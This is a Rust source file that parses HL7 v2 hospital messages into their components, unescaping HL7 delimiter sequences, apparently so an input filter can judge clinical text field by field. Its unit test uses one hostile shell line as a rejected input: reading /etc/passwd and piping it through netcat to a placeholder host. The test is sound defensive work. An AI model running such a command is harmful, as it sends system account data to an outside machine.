//! HL7 version 2 messages, as hospital systems post them to an interface engine (lab results, admissions, orders)
//! or carry them in a JSON member (a cloud healthcare API's `data`): segments, one a line, fields separated by the
//! character the `MSH` header declares (`|` almost always), components by `^`, repetitions by `~`,
//! subcomponents by `&`. Those are the format's, not a shell's pipes or a query's operators; what a clinician
//! wrote is each component (`K+ 3.2 -> repleted`, `Wt 87.6 kg (↓1.2 kg)`). Judged one component at a time, as a
//! delimited document's fields are.

/// The components of `value` read as an HL7 v2 message: it starts with an `MSH` segment whose field separator
/// and four encoding characters are punctuation, and every segment starts with a three-character id. None
/// otherwise.
pub fn components(value: &[u8]) -> Option<Vec<Vec<u8>>> {
    let header = value.strip_prefix(b"MSH")?;
    let (&field, rest) = header.split_first()?;
    let encoding = rest.get(..4)?;
    let separators = [field, encoding[0], encoding[1], encoding[3]];
    if !separators
        .iter()
        .chain([&encoding[2]])
        .all(|b| b.is_ascii_punctuation())
    {
        return None;
    }
    let escape = encoding[2];
    let mut out = Vec::new();
    for segment in value
        .split(|&b| b == b'\r' || b == b'\n')
        .filter(|segment| !segment.is_empty())
    {
        let id = segment.get(..3)?;
        if !id.iter().all(u8::is_ascii_alphanumeric) || segment.get(3).is_some_and(|&b| b != field)
        {
            return None;
        }
        // The header's encoding characters are the format's own.
        let body = if id == b"MSH" {
            &segment[8.min(segment.len())..]
        } else {
            &segment[3..]
        };
        out.extend(
            body.split(|b| separators.contains(b))
                .filter(|text| !text.is_empty())
                .map(|text| unescaped(text, escape, &separators)),
        );
    }
    Some(out)
}

/// `text` with HL7's escape sequences for its delimiters and line breaks (`\F\`, `\S\`, `\T\`, `\R\`, `\E\`,
/// `\.br\`) written as what they stand for.
fn unescaped(text: &[u8], escape: u8, separators: &[u8; 4]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        if text[i] == escape
            && let Some(end) = text[i + 1..].iter().position(|&b| b == escape)
        {
            let code = &text[i + 1..i + 1 + end];
            let by = match code {
                b"F" => Some(separators[0]),
                b"S" => Some(separators[1]),
                b"R" => Some(separators[2]),
                b"T" => Some(separators[3]),
                b"E" => Some(escape),
                b".br" => Some(b'\n'),
                _ => None,
            };
            if let Some(by) = by {
                out.push(by);
                i += end + 2;
                continue;
            }
        }
        out.push(text[i]);
        i += 1;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_is_its_components() {
        let message = b"MSH|^~\\&|LAB|CLINIC|EHR|CLINIC|202511021030||ORU^R01|123|P|2.5.1\rPID|1||4455^^^MRN||O'Brien^Mary\rOBX|1|NM|2823-3^Potassium^LN||3.2|mmol/L|3.5-5.1|L\rNTE|1||K+ low \\T\\ repleted -> recheck|\r";
        let parts = components(message).expect("an HL7 message");
        assert!(parts.iter().any(|part| part == b"O'Brien"));
        assert!(
            parts
                .iter()
                .any(|part| part == b"K+ low & repleted -> recheck")
        );
        assert!(!parts.iter().any(|part| part.contains(&b'|')));
        assert!(components(b"MSH is the header; cat /etc/passwd | nc x 1").is_none());
        assert!(components(b"MSH|^~\\&|A\rnot a segment; id").is_none());
    }
}
